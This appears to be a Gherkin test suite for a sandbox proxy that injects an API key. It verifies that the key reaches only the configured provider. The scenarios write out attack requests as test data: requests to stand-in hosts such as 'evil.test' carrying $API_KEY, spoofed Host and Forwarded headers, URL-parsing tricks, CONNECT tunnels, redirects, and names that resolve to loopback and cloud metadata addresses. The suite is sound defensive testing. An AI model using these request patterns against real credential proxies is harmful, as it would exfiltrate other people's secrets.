@needs:factory @needs:secret
Feature: Whom a key goes to
  A key is for one provider and one attempt. A step chooses the words of a request, and neither where the key goes nor whose it is.

  @INJ-04
  Rule: The key goes to the configured provider only, and only for the attempt it was given to

    Background:
      Given a sandboxed step
      And the network is allowlist

    # omnigent PR 236
    @case:I06
    Scenario Outline: the placeholder is nothing elsewhere: to another host by <way>
      Given a key for "https://{nonce}.api.test" is injected
      And the host "{nonce}.echo.test" is allowed
      When the step runs the shell command "<request>; tools/probe converse url:API_URL 'GET {base}/v1 HTTP/1.1\r\nHost: {authority}\r\nConnection: close\r\n\r\n'; true"
      Then the key arrives at "{nonce}.api.test" alone
      And the key does not arrive
      And every request to "{nonce}.echo.test" has one header "x-api-key", with "factory-egress-placeholder"
      And planted, a key that goes elsewhere is noticed

      Examples:
        | way        | request                                                                                                                                                                                      |
        | plain HTTP | tools/probe converse proxy "GET http://{nonce}.echo.test/v1 HTTP/1.1\\r\\nHost: {nonce}.echo.test\\r\\nx-api-key: $API_KEY\\r\\nConnection: close\\r\\n\\r\\n"                                             |
        | CONNECT    | tools/probe converse proxy "CONNECT {nonce}.echo.test:80 HTTP/1.1\\r\\nHost: {nonce}.echo.test:80\\r\\n\\r\\n" "GET /v1 HTTP/1.1\\r\\nHost: {nonce}.echo.test\\r\\nx-api-key: $API_KEY\\r\\nConnection: close\\r\\n\\r\\n" |

    # The provider's own name, but by the proxy: it adds keys to nothing that comes that way
    @extra
    Scenario: a request to the provider by the proxy gets no key
      Given a key for "https://{nonce}.api.test" is injected
      And the host "{nonce}.api.test" is allowed
      When the step runs the shell command "tools/probe converse proxy "GET http://{nonce}.api.test/plain HTTP/1.1\r\nHost: {nonce}.api.test\r\nx-api-key: $API_KEY\r\nConnection: close\r\n\r\n" + converse url:API_URL 'GET {base}/v1 HTTP/1.1\r\nHost: {authority}\r\nConnection: close\r\n\r\n'; true"
      Then a request for "/plain" arrives at "{nonce}.api.test" without the key
      And the key arrives at "{nonce}.api.test" alone
      And planted, a key that goes elsewhere is noticed

    # TencentCloud/CubeSandbox 1410: the key was added because of the Host header
    @case:I02
    Scenario Outline: what a request says of its host does not move the key: <what>
      Given a key for "https://{nonce}.api.test" is injected
      And the host "{nonce}.evil.test" is allowed
      When after a request to its "API_URL", the step sends there
        """
        <request>
        x-api-key: factory-egress-placeholder
        Connection: close
        """
      Then each request is heard
      And the key arrives at "{nonce}.api.test" alone
      And planted, a key that goes elsewhere is noticed

      Examples:
        | what                            | request                                                                                |
        | Host                            | GET {base}/v1 HTTP/1.1\\r\\nHost: {nonce}.evil.test                                    |
        | X-Forwarded-Host                | GET {base}/v1 HTTP/1.1\\r\\nHost: {authority}\\r\\nX-Forwarded-Host: {nonce}.evil.test |
        | Forwarded                       | GET {base}/v1 HTTP/1.1\\r\\nHost: {authority}\\r\\nForwarded: host={nonce}.evil.test   |
        | an absolute URL and Host        | GET http://{nonce}.evil.test{base}/v1 HTTP/1.1\\r\\nHost: {nonce}.evil.test            |
        | an absolute URL                 | GET http://{nonce}.evil.test/v1 HTTP/1.1\\r\\nHost: {authority}                        |
        | a user before the host          | GET http://{authority}@{nonce}.evil.test{base}/v1 HTTP/1.1\\r\\nHost: {authority}      |
        | two slashes first               | GET //{nonce}.evil.test{base}/v1 HTTP/1.1\\r\\nHost: {authority}                       |
        | two slashes in the path         | GET {base}//{nonce}.evil.test/v1 HTTP/1.1\\r\\nHost: {authority}                       |
        | a host behind the path          | GET {base}@{nonce}.evil.test/v1 HTTP/1.1\\r\\nHost: {authority}                        |
        | folders up                      | GET {base}/../../{nonce}.evil.test/v1 HTTP/1.1\\r\\nHost: {authority}                  |
        | a tunnel                        | CONNECT {nonce}.evil.test:80 HTTP/1.1\\r\\nHost: {nonce}.evil.test:80                  |
        | a request for the server itself | OPTIONS * HTTP/1.1\\r\\nHost: {nonce}.evil.test                                        |

    # OpenSandbox PR 955
    @case:I03
    Scenario Outline: where the provider sends on to another host, the key does not go there, <how>
      Given a key for "https://{nonce}.api.test" is injected
      And the host "{nonce}.evil.test" is allowed
      When the step runs the shell command "<command>; true"
      Then the key arrives at "{nonce}.api.test" alone
      And planted, a key that goes elsewhere is noticed

      Examples:
        | how                                 | command                                                                                                                |
        | whoever could follow                | tools/probe converse url:API_URL 'GET {base}/moved HTTP/1.1\\r\\nHost: {authority}\\r\\nConnection: close\\r\\n\\r\\n'        |
        | and a POST does not                 | tools/probe converse url:API_URL 'POST {base}/moved HTTP/1.1\\r\\nHost: {authority}\\r\\nContent-Length: 2\\r\\nConnection: close\\r\\n\\r\\nab' |

    @case:I03 @program:curl
    Scenario: a client that follows to another host brings no key there
      Given a key for "https://{nonce}.api.test" is injected
      And the host "{nonce}.evil.test" is allowed
      When the step runs the shell command "curl -sSL "$API_URL/moved" -H "x-api-key: $API_KEY" && echo"
      Then the client gets the answer of the origin "evil"
      And the key arrives at "{nonce}.api.test" alone
      And every request to "{nonce}.evil.test" has the line "GET /moved HTTP/1.1"
      And planted, a key that goes elsewhere is noticed

    # llxprt-code 1954 and PR 2467, pi-sandbox PR 61
    @case:I07 @case:N11
    Scenario: while an attempt has a key, another one does not get it to the provider
      Given the host "{nonce}.api.test" is allowed
      And a key for "https://{nonce}.api.test" is injected for the step that waits
      When while a step that has asked its "API_URL" waits, the step beside it asks the proxy for "http://{nonce}.api.test/second"
      Then a request for "/second" arrives at "{nonce}.api.test" without the key
      And the key arrives at "{nonce}.api.test" alone
      And planted, a key that goes elsewhere is noticed

    @case:I07
    Scenario: nobody whom another attempt can call leads to the provider
      Given a key for "https://{nonce}.api.test" is injected for the step that waits
      When while a step that has asked its "API_URL" waits, the step beside it runs "tools/probe every-way {nonce}.api.test:443 + every-way {nonce}.api.test:80"
      Then "{nonce}.api.test" gets 1 request
      And the key arrives at "{nonce}.api.test" alone
      And planted, a key that goes elsewhere is noticed

    @case:N11
    Scenario: of two attempts at the same time, each has its own key and provider
      Given a key for "https://{nonce}.api.test" is injected for the step that waits
      And a key for "https://{nonce}.tls.test" is injected for the step beside it
      When while a step that has asked its "API_URL" waits, the step beside it asks its own
      Then every request to "{nonce}.api.test" has one header "x-api-key", with "{api-key}"
      And every request to "{nonce}.tls.test" has one header "x-api-key", with "{other-api-key}"
      And the key arrives at "{nonce}.api.test" alone
      And the other key arrives at "{nonce}.tls.test" alone
      And planted, a key that goes elsewhere is noticed

    @case:N11 @needs:serve
    Scenario: of two attempts on one serve, each has its own key and provider
      Given a key for "https://{nonce}.api.test" is injected for the step that waits
      And a key for "https://{nonce}.tls.test" is injected for the step beside it
      When on one serve, while a step that has asked its "API_URL" waits, the step beside it asks its own
      Then every request to "{nonce}.api.test" has one header "x-api-key", with "{api-key}"
      And every request to "{nonce}.tls.test" has one header "x-api-key", with "{other-api-key}"
      And the key arrives at "{nonce}.api.test" alone
      And the other key arrives at "{nonce}.tls.test" alone
      And planted, a key that goes elsewhere is noticed

    # Whoever answers in the provider's place: a route or a name server that was taken over
    Scenario: a provider for whose certificate nobody vouches does not get the key
      Given a key for "https://{nonce}.impostor.test" is injected
      When the step sends its "API_URL"
        """
        GET {base}/v1 HTTP/1.1
        Host: {authority}
        x-api-key: factory-egress-placeholder
        Connection: close
        """
      Then something arrives at "{nonce}.impostor.test"
      And the key arrives nowhere
      And planted, a key that goes elsewhere is noticed

    # A company's gateway may have a private address; this machine and a cloud's metadata are nobody's provider
    @extra
    Scenario Outline: a provider whose name leads to <what> is not called
      Given a service at every special address, on a port of its own
      And a key for "https://{nonce}.<script>.test:{port}" is injected
      When the step sends its "API_URL"
        """
        GET {base}/v1 HTTP/1.1
        Host: {authority}
        Connection: close
        """
      Then it is answered with "403"
      And nothing arrives at a special address
      And bare, a connection to "{nonce}.<script>.test:{port}" arrives

      Examples:
        | what                    | script     |
        | loopback                | loopback   |
        | a link-local address    | link-local |
        | the metadata of a cloud | metadata   |
